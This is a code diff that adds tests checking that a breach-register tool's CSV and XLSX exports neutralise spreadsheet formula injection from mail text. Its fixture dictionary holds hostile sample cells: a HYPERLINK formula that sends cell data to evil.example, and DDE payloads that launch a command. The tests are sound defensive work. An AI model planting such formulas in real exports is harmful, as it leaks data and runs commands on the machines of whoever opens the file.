@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import os
 import subprocess
 import sys
@@ -15,6 +16,7 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import insert
 
+from mailbot import db
 from mailbot.app import Services
 from mailbot.cases import ap_deadline
 from mailbot.cli import main
@@ -102,6 +104,90 @@ def test_xlsx_opens_with_frozen_header_widths_and_real_dates(tmp_path: Path, mon
     assert ws.cell(row=2, column=header.index("Ernst (score)") + 1).value == 3.25
     assert ws.column_dimensions["G"].width == 50  # the summary column is wide
     assert ws.max_row == 4
+
+
+FORMULAS = {
+    "=": '=HYPERLINK("https://evil.example/?"&A3&B3,"details")',
+    "+": "+31 6 12345678",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t": "\t=1+1",
+    "\r": "\r=1+1",
+    "＝": "＝1+1",
+    " ": "  =1+1",
+}
+
+
+def _formula_case(svc: Services) -> None:
+    """A case whose every text from a mail starts like a formula: the report, the answers and
+    what the officer copied from them into the assessment."""
+    texts = iter(FORMULAS.values())
+    case = make_case(svc, T1, description=next(texts), worked=True)
+    with db.session(svc.engine) as s:
+        c = s.get(Case, case.id)
+        assert c is not None
+        answers = {"data_types": next(texts), "affected_count": next(texts), "affected_group": next(texts)}
+        c.answers = json.dumps({**json.loads(c.answers), **answers, "cause": next(texts)})
+        assessment = {"nature": next(texts), "consequences": next(texts), "measures": next(texts)}
+        c.assessment = json.dumps({**json.loads(c.assessment), **assessment, "summary": "", "categories": ""})
+        c.ap_delay_reason = "=1+1"
+        s.add(c)
+        s.commit()
+
+
+FORMULA_COLUMNS = {
+    "Samenvatting": FORMULAS["="],
+    "Soorten persoonsgegevens": FORMULAS["+"],
+    "Aantal betrokkenen": FORMULAS["-"],
+    "Groep betrokkenen": FORMULAS["@"],
+    "Oorzaak": FORMULAS["\t"],
+    "Aard van het datalek": FORMULAS["\r"],
+    "Gevolgen": FORMULAS["＝"],
+    "Maatregelen": FORMULAS[" "],
+    "Reden vertraging": "=1+1",
+}
+
+
+def test_csv_text_from_a_mail_never_starts_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Every text cell that starts like a formula (= + - @ tab CR, fullwidth ＝, or = after
+    spaces) gets OWASP's leading quote; the value is otherwise kept, dates and numbers as ever."""
+    _, svc = offline_services(tmp_path, monkeypatch)
+    _formula_case(svc)
+    (row,) = _csv(_export(svc, "csv"))
+    for column, text in FORMULA_COLUMNS.items():
+        assert row[column] == "'" + text, column
+    assert row["Ontvangen"] == "02-03-2026 09:30" and row["Kenmerk"] == "DL-2026-0001"
+
+
+def test_xlsx_text_from_a_mail_is_a_text_cell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """No cell of the workbook is a formula; text keeps its value exactly; the dates the product
+    computed stay date cells and the score a number."""
+    _, svc = offline_services(tmp_path, monkeypatch)
+    _formula_case(svc)
+    path = tmp_path / "register.xlsx"
+    path.write_bytes(_export(svc, "xlsx"))
+    ws = load_workbook(path).active
+    assert ws is not None
+    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    header = [c.value for c in ws[1]]
+    for column, text in FORMULA_COLUMNS.items():
+        cell = ws.cell(row=2, column=header.index(column) + 1)
+        assert (cell.data_type, cell.value) == ("s", text), column
+    received = ws.cell(row=2, column=header.index("Ontvangen") + 1)
+    assert received.value == datetime(2026, 3, 2, 9, 30), "a date cell, read back as a datetime"
+    assert isinstance(ws.cell(row=2, column=header.index("Ernst (score)") + 1).value, float)
+
+
+def test_xlsx_takes_control_characters_a_workbook_cannot_hold(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A report with a control character in it does not stop the export of the whole register."""
+    _, svc = offline_services(tmp_path, monkeypatch)
+    make_case(svc, T1, description="lijst\x01met\x1bnamen")
+    path = tmp_path / "register.xlsx"
+    path.write_bytes(_export(svc, "xlsx"))
+    ws = load_workbook(path).active
+    assert ws is not None
+    header = [c.value for c in ws[1]]
+    assert ws.cell(row=2, column=header.index("Samenvatting") + 1).value == "lijst\ufffdmet\ufffdnamen"
 
 
 class _Page(HTMLParser):
